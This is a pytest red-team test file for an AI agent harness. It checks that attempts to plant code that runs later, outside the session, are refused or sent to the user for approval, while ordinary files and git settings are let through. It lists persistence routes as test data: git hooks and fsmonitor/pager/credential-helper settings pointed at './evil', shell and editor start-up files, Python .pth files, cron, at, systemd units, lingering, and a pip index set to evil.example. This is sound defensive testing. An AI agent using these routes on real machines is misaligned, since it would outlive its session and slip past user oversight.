"""Files and settings that make other programs run something later, outside of any session."""

from pathlib import Path

import pytest

from hermes.core.ports import ApprovalAnswer
from tests.redteam.conftest import Machine, RecordingApprover, call, creates_in_home

IN_PROJECT = (
    ".git/hooks/pre-commit", ".git/config", ".git/info/attributes", ".envrc", ".vscode/tasks.json",
    ".vscode/settings.json", ".idea/workspace.xml", ".husky/pre-commit", "sub/.git/hooks/x",
    "sub/.envrc", ".git/modules/x/config", ".venv/lib/python3.11/site-packages/x.pth",
    ".venv/lib/python3.11/site-packages/sitecustomize.py", "usercustomize.py",
)  # fmt: skip
IN_HOME = (
    ".gitconfig", ".config/git/config", ".vimrc", ".config/nvim/init.lua", ".emacs", ".tmux.conf",
    ".emacs.d/init.el", ".config/environment.d/x.conf", ".pam_environment", ".config/pip/pip.conf",
    ".local/bin/ls", "bin/git", ".gdbinit", ".psqlrc", ".inputrc", ".zshenv", ".config/fish/x.fish",
    ".config/systemd/user/x.service", ".config/autostart/x.desktop", ".ssh/rc", ".xsessionrc",
    ".local/lib/python3.11/site-packages/usercustomize.py", ".bash_aliases", ".curlrc",
    ".local/lib/python3.11/site-packages/x.pth", ".config/direnv/direnvrc", ".cargo/config.toml",
)  # fmt: skip
COMMANDS = {
    "git alias": "git config --global alias.s '!touch ran'",
    "git hooks path": "git init -q && git config core.hooksPath hk",
    "git fsmonitor": "git init -q && git config core.fsmonitor ./evil",
    "git include": "git init -q && git config include.path ../evil",
    "git template": "git config --global init.templateDir ~/work/t",
    "git pager": "git config --global core.pager ./evil",
    "git editor": "git config --global core.editor 'sh -c evil'",
    "git credential helper": "git config --global credential.helper '!./evil'",
    "git diff driver": "git config --global diff.x.command ./evil",
    "git merge driver": "git config --global merge.x.driver ./evil",
    "git ssh": "git config --global core.sshCommand ./evil",
    "git signing program": "git config --global gpg.program ./evil",
    "systemd user unit": "systemctl --user enable --now x",
    "lingering": "loginctl enable-linger",
    "key in the store": "ssh-keygen -q -N '' -f ~/.ssh/x",
    "key on another machine": "ssh-copy-id host.example",
    "crontab": "echo '* * * * * touch ran' | crontab -",
    "at": "echo 'touch ran' | at now",
    "package index": "pip config set global.index-url http://evil.example",
    "npm shell": "npm config set script-shell ./evil",
    "link to a hook": "ln -s ~/work/evil .git/hooks/pre-push",
    "sed in a start-up file": "sed -i '1i evil' ~/.gitconfig",
    "dd": "dd if=evil of=.git/hooks/pre-push",
    "install": "install -m 755 evil .git/hooks/pre-push",
    "curl": "curl -s file:///etc/hostname -o ~/.vimrc",
}


@pytest.fixture
def project(machine: Machine) -> Machine:
    (machine.work / "evil").write_text("#!/bin/sh\ntouch ran\n")
    for folder in (".git/hooks", ".git/info", "sub/.git/hooks"):
        (machine.work / folder).mkdir(parents=True)
    return machine


@pytest.mark.parametrize("path", IN_PROJECT)
@pytest.mark.parametrize("how", ["terminal", "write_file", "execute_code"])
async def test_files_of_a_project_that_run_later(project: Machine, path: str, how: str) -> None:
    await project.run(_write(how, project.work / path))
    assert not (project.work / path).exists()


@pytest.mark.parametrize("path", IN_HOME)
@pytest.mark.parametrize("how", ["terminal", "write_file", "execute_code"])
async def test_files_of_the_home_that_run_later(project: Machine, path: str, how: str) -> None:
    await project.run(_write(how, project.home / path))
    assert not (project.home / path).exists()
    project.assert_unharmed()


def _write(how: str, path: Path) -> tuple[str, dict[str, str]]:
    path.parent.mkdir(parents=True, exist_ok=True)
    if how == "terminal":
        return call("terminal", command=f"cp evil {path}")
    if how == "write_file":
        return call("write_file", path=str(path), content="evil")
    return call("execute_code", code=f"open({str(path)!r}, 'w').write('evil')")


@pytest.mark.parametrize("line", COMMANDS.values(), ids=list(COMMANDS))
async def test_commands_that_make_something_run_later(project: Machine, line: str) -> None:
    approver = RecordingApprover()
    await project.run(call("terminal", command=f"touch started; {line}"), approver=approver)
    assert approver.questions
    assert not (project.work / "started").exists()
    project.assert_unharmed()


async def test_the_user_can_allow_a_hook_in_the_project(project: Machine) -> None:
    """Such files are asked about, not refused."""
    approver = RecordingApprover(ApprovalAnswer.ONCE)
    await project.run(
        call("write_file", path=".git/hooks/pre-commit", content="#!/bin/sh\n"), approver=approver
    )
    (question,) = approver.questions
    assert "run or obeyed later" in question.reason
    assert (project.work / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize(
    "path",
    ["package.json", "Makefile", ".github/workflows/ci.yml", ".gitignore", ".gitattributes",
     "setup.py", ".pre-commit-config.yaml", ".vscode/extensions.json", "docker-compose.yml"],
)  # fmt: skip
@pytest.mark.parametrize("how", ["terminal", "write_file", "execute_code"])
async def test_ordinary_files_of_a_project_are_written(
    project: Machine, path: str, how: str
) -> None:
    await project.run(_write(how, project.work / path))
    assert (project.work / path).exists()


@creates_in_home
@pytest.mark.parametrize(
    "line",
    ["git init -q r && git -C r config user.name x", "git config --global user.email a@b.example",
     "git config --global core.editor vim", "git config --global alias.st status",
     "git config --global credential.helper cache"],
)  # fmt: skip
async def test_ordinary_settings_of_git_are_not_asked_about(project: Machine, line: str) -> None:
    await project.run(call("terminal", command=f"{line} && touch done"))
    assert (project.work / "done").exists()
